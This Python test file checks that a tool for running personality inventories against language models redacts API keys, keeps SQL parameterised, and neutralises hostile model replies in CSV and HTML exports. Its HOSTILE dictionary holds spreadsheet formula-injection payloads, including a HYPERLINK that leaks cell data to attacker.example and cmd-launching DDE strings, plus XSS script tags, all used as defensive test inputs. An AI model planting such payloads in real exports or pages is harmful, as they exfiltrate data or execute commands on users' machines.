"""Keys never reach the database, exports, reports or logs; model replies are inert; SQL only through parameters."""

from __future__ import annotations

import ast
import csv
import re
from pathlib import Path

import pytest

from tests.robustness.conftest import ROOT, cli_env, run_cli
from tests.support.openai_server import OpenAIServer, ServerConfig, default_choice

KEY = "sk-proj-PLANTED0KEY0abcdefghijklmnopqrstuvwxyz0123456789"
HOSTILE = {
    "is talkative": '=HYPERLINK("http://attacker.example/?leak="&A1,"3")',
    "tends to find fault": "+3+cmd|' /C calc'!A0",
    "does a thorough job": "-2+3",
    "is depressed": "@SUM(1+2)*cmd|' /C calc'!A0",
    "is original": "<script>alert('x')</script><img src=x onerror=alert(1)> 4",
}


def _choose(prompt: str, labels: list[str]) -> str:
    for fragment, text in HOSTILE.items():
        if fragment in prompt.lower():
            return text
    return default_choice(prompt, labels)


def _behaviour(n: int, prompt: str) -> str:
    return "echo-auth" if "is reserved" in prompt else "answer"  # an error message that repeats the key


def test_api_key_reaches_no_file_and_no_output(tmp_path):
    env = cli_env(OPENAI_API_KEY=KEY)
    db = f"sqlite:///{tmp_path / 'runs.db'}"
    outputs: list[str] = []
    with OpenAIServer(ServerConfig(api_key=KEY, behaviour=_behaviour, choose=_choose)) as server:
        done = run_cli("audit", "--model", "openai/test-model", "--api-base", server.api_base, "--db", db,
                       "--inventory", "bfi44", "--templates", "instruct", "--orders", "original,reversed",
                       "--mode", "generate", "--retries", "0", "--run-id", "sec", "--no-report", env=env)
        assert done.returncode == 0, done.stderr
        outputs += [done.stdout, done.stderr]
        assert server.auth_headers and set(server.auth_headers) == {f"Bearer {KEY}"}  # the key was used
        assert server.statuses[401] == 0
    for fmt in ("csv", "jsonl", "parquet"):
        done = run_cli("runs", "export", "sec", "--out", str(tmp_path / f"sec.{fmt}"), "--format", fmt, "--db", db,
                       env=env)
        assert done.returncode == 0, done.stderr
        outputs += [done.stdout, done.stderr]
    for args in (["runs", "show", "sec"], ["runs", "list"], ["score", "sec"],
                 ["report", "sec", "--out", str(tmp_path / "sec.html"), "--n-boot", "0"]):
        done = run_cli(*args, "--db", db, env=env)
        assert done.returncode == 0, (args, done.stderr)
        outputs += [done.stdout, done.stderr]
    produced = [p for p in tmp_path.rglob("*") if p.is_file()]
    names = {p.name for p in produced}
    assert {"runs.db", "sec.csv", "sec.jsonl", "sec.parquet", "sec.html"} <= names
    for path in produced:
        assert KEY.encode() not in path.read_bytes(), path
        assert KEY[8:30].encode() not in path.read_bytes(), path  # not even a fragment
    for text in outputs:
        assert KEY not in text
    # The error that echoed the key was stored, redacted.
    import sqlite3

    with sqlite3.connect(tmp_path / "runs.db") as conn:
        errors = [e for (e,) in conn.execute("SELECT error FROM responses WHERE status = 'error'")]
    assert errors and all("[redacted]" in e for e in errors)


def test_model_replies_are_inert_in_exports_and_report(tmp_path):
    db = f"sqlite:///{tmp_path / 'runs.db'}"
    with OpenAIServer(ServerConfig(choose=_choose)) as server:
        done = run_cli("audit", "--model", "openai/test-model", "--api-base", server.api_base, "--db", db,
                       "--inventory", "bfi44", "--templates", "instruct", "--orders", "original", "--mode", "generate",
                       "--run-id", "inert", "--no-report")
        assert done.returncode == 0, done.stderr
    out = tmp_path / "inert.csv"
    assert run_cli("runs", "export", "inert", "--out", str(out), "--db", db).returncode == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    hostile = [r for r in rows if any(f in r["prompt"].lower() for f in HOSTILE)]
    assert len(hostile) == len(HOSTILE)
    for row in rows:  # no text cell a spreadsheet would run
        for column in ("raw_text", "prompt", "error", "model", "template"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert {r["raw_text"] for r in hostile} >= {"'" + t for t in HOSTILE.values() if t[0] in "=+-@"}
    html = tmp_path / "inert.html"
    done = run_cli("report", "inert", "--out", str(html), "--db", db, "--n-boot", "0")
    assert done.returncode == 0, done.stderr
    text = html.read_text()
    assert "<script>alert" not in text and "<img src=x" not in text  # shown, if at all, escaped


SQL = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|PRAGMA|REPLACE INTO|WHERE|VALUES)\b")
# Names whose values are built only from constants (column names in _COLUMNS, runs of "?").
ALLOWED = {"cols", "marks", "placeholders", "columns"}


def _sql_fstrings(path: Path):
    tree = ast.parse(path.read_text(), filename=str(path))
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
            if SQL.search(text):
                yield node, [v.value for v in node.values if isinstance(v, ast.FormattedValue)]
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) and isinstance(node.left, ast.Constant) \
                and isinstance(node.left.value, str) and SQL.search(node.left.value):
            yield node, [node.right]  # "... %s" % x


def test_sql_interpolates_only_constant_fragments():
    """Values reach SQL only as bound parameters: any f-string with SQL in it interpolates only vetted names."""
    found = []
    for path in sorted((ROOT / "psychometrics").rglob("*.py")):
        for node, values in _sql_fstrings(path):
            for value in values:
                ok = isinstance(value, ast.Name) and value.id in ALLOWED
                found.append((f"{path.relative_to(ROOT)}:{node.lineno}", ast.unparse(value), ok))
    bad = [f for f in found if not f[2]]
    assert not bad, f"SQL built from values (use ? parameters): {bad}"
    assert found  # the scan does see the store's statements


def test_vetted_names_hold_only_constants():
    """``cols`` and ``marks`` in the store are made from the column list and question marks only (``wanted`` is
    the caller's choice of columns, refused unless every name is in the column list)."""
    source = (ROOT / "psychometrics" / "store" / "_store.py").read_text()  # the statements both backends share
    for line in source.splitlines():
        m = re.match(r"\s*(cols|marks)\s*=\s*(.+)", line)
        if m:
            assert re.fullmatch(r'", "\.join\((f\'r\."\{c\}"\' for c in (_COLUMNS|wanted)|"\?" for _ in chunk)\)',
                                m.group(2)), line
    assert "unknown = [c for c in wanted if c not in _COLUMNS]" in source
    assert "if unknown:\n            raise ValueError" in source


@pytest.mark.parametrize("url", ["http://user:sk-secret-123456789@127.0.0.1:9/v1",
                                 "http://127.0.0.1:9/v1?api-key=sk-secret-123456789",
                                 "https://example.test/openai/v1?api-version=2024-06-01&api_key=sk-secret-123456789",
                                 "http://127.0.0.1:9/v1?access_token=sk-secret-123456789&x=1",
                                 "http://u:sk-secret-1@127.0.0.1:9/v1?sig=sk-secret-2"])
def test_credentials_in_api_base_are_never_stored(url):
    from psychometrics.administer._audit import sanitize_api_base

    shown = sanitize_api_base(url) or ""
    assert "sk-secret" not in shown
    assert shown.startswith(url.split("://")[0] + "://") and "/v1" in shown
    if "api-version" in url:
        assert "api-version=2024-06-01" in shown  # not a credential: kept


def test_a_key_in_the_query_string_never_reaches_the_run_record_or_the_error_line(tmp_path):
    """A dead endpoint whose URL carries a key: the one-line error and the stored run show it hidden."""
    import sqlite3

    from typer.testing import CliRunner

    from psychometrics.cli import app

    db = tmp_path / "runs.db"
    result = CliRunner().invoke(app, ["audit", "-m", "openai/x", "--api-base",
                                      "http://127.0.0.1:9/v1?api-key=sk-secret-123456789", "--limit-items", "1",
                                      "--db", f"sqlite:///{db}", "--retries", "0"])
    assert result.exit_code != 0 and "sk-secret" not in result.output
    assert "api-key=REDACTED" in result.output

    from tests.support.openai_server import ServerProcess

    with ServerProcess(latency=0.0) as server:  # a live endpoint: the run is stored (its requests, sent to the
        # path after the query string as the OpenAI client does, end in 404s: exit 1, the run and its errors kept)
        result = CliRunner().invoke(app, ["audit", "-m", "openai/test-model", "--api-base",
                                          server.api_base + "?api-key=sk-secret-123456789", "--limit-items", "1",
                                          "--templates", "instruct", "--db", f"sqlite:///{db}", "--no-report"])
    assert result.exit_code == 1 and "resume with" in result.output, result.output
    assert "sk-secret" not in result.output
    with sqlite3.connect(db) as conn:
        dump = "\n".join(conn.iterdump())
    assert "api-key=REDACTED" in dump and "sk-secret" not in dump
